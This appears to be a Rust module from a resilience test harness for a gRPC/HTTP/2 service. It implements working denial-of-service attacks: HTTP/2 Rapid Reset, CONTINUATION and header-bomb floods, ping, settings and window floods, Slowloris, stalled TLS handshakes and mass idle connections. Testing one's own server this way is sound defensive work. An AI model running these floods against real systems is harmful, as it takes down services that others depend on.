//! The attacks, one by one.

use std::io;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, bomb, call, call_headers, claiming, frame,
};
use super::wire::{Badge, Way, open, plain};

/// The call that all peers may make.
const FETCH: &str = "/broadsweep.bulk.v1.Bulk/Fetch";
/// Connections that are held open at once by one attacker.
const CROWD: usize = 500;
/// How long a connection is held that says nothing more.
const HOLD: Duration = Duration::from_secs(12);
/// How often an attacker looks whether it has to stop.
const POLL: Duration = Duration::from_millis(20);
/// Frames that are written together.
const BATCH: u32 = 200;

/// What is sent to an executor.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Calls that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Calls that make the other side take them back (CVE-2025-8671).
    ForcedReset,
    /// Calls without content.
    Calls,
    /// Headers that never end, in many pieces (CVE-2024-27316 and others).
    Continuations,
    /// Headers that are short on the wire and long once decoded.
    HeaderBombs,
    /// Pings (CVE-2019-9512).
    Pings,
    /// Settings (CVE-2019-9515).
    Settings,
    /// Priorities (CVE-2019-9513).
    Priorities,
    /// Window updates.
    WindowUpdates,
    /// Frames of data without data (CVE-2019-9518).
    EmptyFrames,
    /// Frames of one byte.
    TinyFrames,
    /// A frame of 16 MiB.
    Oversize,
    /// Messages of 4 MiB of which all but the end comes, on as many streams as there may be.
    HalfMessages,
    /// Calls whose answers are never read (CVE-2019-9517).
    Deaf,
    /// The beginning of HTTP/2, and then nothing.
    Idle,
    /// Connections by thousands that say nothing.
    HalfOpen,
    /// A byte now and then.
    SlowLoris,
    /// Half of a TLS handshake.
    StalledHandshakes,
    /// First messages of TLS handshakes, which cost the other side most.
    Hellos,
    /// What looks like TLS and is none.
    TlsGarbage,
    /// What looks like nothing.
    Garbage,
}

/// What anyone can send who reaches the port.
pub const OF_STRANGERS: [Attack; 6] = [
    Attack::HalfOpen,
    Attack::SlowLoris,
    Attack::StalledHandshakes,
    Attack::Hellos,
    Attack::TlsGarbage,
    Attack::Garbage,
];

/// What peers can send: those with an identity, or anyone where there are none.
pub const OF_PEERS: [Attack; 15] = [
    Attack::RapidReset,
    Attack::ForcedReset,
    Attack::Calls,
    Attack::Continuations,
    Attack::HeaderBombs,
    Attack::Pings,
    Attack::Settings,
    Attack::Priorities,
    Attack::WindowUpdates,
    Attack::EmptyFrames,
    Attack::TinyFrames,
    Attack::Oversize,
    Attack::HalfMessages,
    Attack::Deaf,
    Attack::Idle,
];

impl Attack {
    /// One connection, or a crowd of them, until it is cut off.
    pub(super) async fn run(self, way: &Way, stop: &AtomicBool) -> io::Result<()> {
        match self {
            Self::HalfOpen => crowd(way, &[], stop).await,
            Self::StalledHandshakes => {
                let hello = hello(way);
                crowd(way, &hello[..hello.len() / 2], stop).await
            }
            Self::SlowLoris => slowly(way, &hello(way), stop).await,
            Self::Hellos => shouted(way, &hello(way)).await,
            Self::TlsGarbage => shouted(way, &[&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc][..], &noise(600)].concat()).await,
            Self::Garbage => shouted(way, &noise(4096)).await,
            Self::Idle => {
                let mut wire = open(way).await?;
                wire.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
                answered_pings(wire, stop).await
            }
            _ => self.flood(way, stop).await,
        }
    }

    /// Writes batch after batch, and reads what comes.
    async fn flood(self, way: &Way, stop: &AtomicBool) -> io::Result<()> {
        let (mut reader, mut writer) = tokio::io::split(open(way).await?);
        // A window of none: no answer's content can be sent.
        let settings: &[u8] = if self == Self::Deaf { &[0, 4, 0, 0, 0, 0] } else { &[] };
        writer.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).await?;
        let write = async {
            let mut stream = 1;
            while !stop.load(Ordering::Relaxed) {
                let batch = self.batch(&mut stream);
                // Where the other side takes no more, the connection is held for a while.
                timeout(HOLD, writer.write_all(&batch)).await??;
                if self == Self::HalfMessages && stream > 2 * BATCH {
                    return until(stop, HOLD).await;
                }
            }
            Ok(())
        };
        let read = async {
            let mut heard = vec![0; 64 << 10];
            while reader.read(&mut heard).await? > 0 {}
            Ok(())
        };
        tokio::select! {
            ended = write => ended,
            ended = read => ended,
        }
    }

    /// The next bytes of a flood. `stream` is the first that is free.
    fn batch(self, stream: &mut u32) -> Vec<u8> {
        let mut fresh = || {
            let number = *stream;
            *stream += 2;
            number
        };
        let many = |one: Vec<u8>| one.repeat(BATCH as usize);
        let calls = |fresh: &mut dyn FnMut() -> u32, then: &dyn Fn(u32) -> Vec<u8>| -> Vec<u8> {
            let numbers: Vec<u32> = (0..BATCH).map(|_| fresh()).collect();
            numbers.into_iter().flat_map(|number| [call(number, FETCH), then(number)].concat()).collect()
        };
        match self {
            Self::RapidReset => calls(&mut fresh, &|number| frame(RST_STREAM, 0, number, &[0, 0, 0, 8])),
            Self::ForcedReset => calls(&mut fresh, &|number| frame(WINDOW_UPDATE, 0, number, &[0; 4])),
            Self::Calls | Self::Deaf => calls(&mut fresh, &|number| frame(DATA, END_STREAM, number, &[0; 5])),
            Self::Continuations => match fresh() {
                1 => frame(HEADERS, 0, 1, &call_headers(FETCH)),
                _ => many(frame(CONTINUATION, 0, 1, &super::frames::header("x", &"y".repeat(100)))),
            },
            Self::HeaderBombs => {
                let headers = [call_headers(FETCH), bomb(10_000)].concat();
                frame(HEADERS, END_HEADERS | END_STREAM, fresh(), &headers)
            }
            Self::Pings => many(frame(PING, 0, 0, &[7; 8])),
            Self::Settings => many(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])),
            Self::Priorities => many(frame(PRIORITY, 0, fresh(), &[0, 0, 0, 0, 9])),
            Self::WindowUpdates => many(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
            Self::EmptyFrames | Self::TinyFrames => {
                let number = fresh();
                let opening = if number == 1 { call(1, FETCH) } else { Vec::new() };
                let content: &[u8] = if self == Self::EmptyFrames { &[] } else { &[0] };
                [opening, many(frame(DATA, 0, 1, content))].concat()
            }
            Self::Oversize => [call(fresh(), FETCH), claiming((16 << 20) - 1, DATA, 0, 1, &[0; 65_536])].concat(),
            Self::HalfMessages => {
                let number = fresh();
                let length = (4_u32 << 20).to_be_bytes();
                let message = [&[0][..], &length, &vec![0; (4 << 20) - 16]].concat();
                let frames = message.chunks(16 << 10).flat_map(|piece| frame(DATA, 0, number, piece));
                call(number, FETCH).into_iter().chain(frames).collect()
            }
            other => unreachable!("{other:?} is no flood of frames"),
        }
    }
}

/// Waits until it has to stop, or for so long.
async fn until(stop: &AtomicBool, at_most: Duration) -> io::Result<()> {
    let deadline = Instant::now() + at_most;
    while !stop.load(Ordering::Relaxed) && Instant::now() < deadline {
        sleep(POLL).await;
    }
    Ok(())
}

/// Opens connections by hundreds that say `first` and no more; the ones before go once there are too many.
async fn crowd(way: &Way, first: &[u8], stop: &AtomicBool) -> io::Result<()> {
    let mut held: Vec<TcpStream> = Vec::new();
    while held.len() < CROWD && !stop.load(Ordering::Relaxed) {
        let mut stream = plain(way).await?;
        // It may be closed already.
        let _ = stream.write_all(first).await;
        held.push(stream);
    }
    until(stop, HOLD / 12).await
}

/// Says `content` byte after byte, on some connections at once.
async fn slowly(way: &Way, content: &[u8], stop: &AtomicBool) -> io::Result<()> {
    let mut streams = Vec::new();
    for _ in 0..64 {
        streams.push(plain(way).await?);
    }
    for byte in content {
        for stream in &mut streams {
            let _ = stream.write_all(&[*byte]).await; // others go on
        }
        sleep(POLL * 5).await;
        if stop.load(Ordering::Relaxed) {
            break;
        }
    }
    Ok(())
}

/// Says `content` and is gone.
async fn shouted(way: &Way, content: &[u8]) -> io::Result<()> {
    let mut stream = plain(way).await?;
    stream.write_all(content).await?;
    let mut heard = [0; 4096];
    let _ = timeout(POLL, stream.read(&mut heard)).await; // whatever it is
    Ok(())
}

/// Answers pings, so that nobody takes it for dead, and does nothing else.
async fn answered_pings(mut wire: Box<dyn super::wire::Wire>, stop: &AtomicBool) -> io::Result<()> {
    let mut heard = Vec::new();
    while !stop.load(Ordering::Relaxed) {
        let mut piece = [0; 4096];
        let Ok(read) = timeout(POLL, wire.read(&mut piece)).await else { continue };
        match read? {
            0 => return Ok(()),
            bytes => heard.extend_from_slice(&piece[..bytes]),
        }
        while let Some([long, middle, short, kind, flags, ..]) = heard.get(..9) {
            let (length, kind, is_answer) =
                (u32::from_be_bytes([0, *long, *middle, *short]) as usize, *kind, flags & 1 == 1);
            if heard.len() < 9 + length {
                break;
            }
            let payload: Vec<u8> = heard.drain(..9 + length).skip(9).collect();
            match kind {
                PING if !is_answer => wire.write_all(&frame(PING, 1, 0, &payload)).await?,
                SETTINGS if !is_answer => wire.write_all(&frame(SETTINGS, 1, 0, &[])).await?,
                _ => {}
            }
        }
    }
    Ok(())
}

/// The first message of a TLS handshake, or what looks like one from afar.
fn hello(way: &Way) -> Vec<u8> {
    way.badge
        .as_ref()
        .map_or_else(|| [&[0x16, 3, 1, 0, 0xfa, 1, 0, 0, 0xf6, 3, 3][..], &noise(250)].concat(), Badge::hello)
}

/// Bytes without sense, always the same.
fn noise(length: usize) -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let byte = |_| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state as u8
    };
    (0..length).map(byte).collect()
}
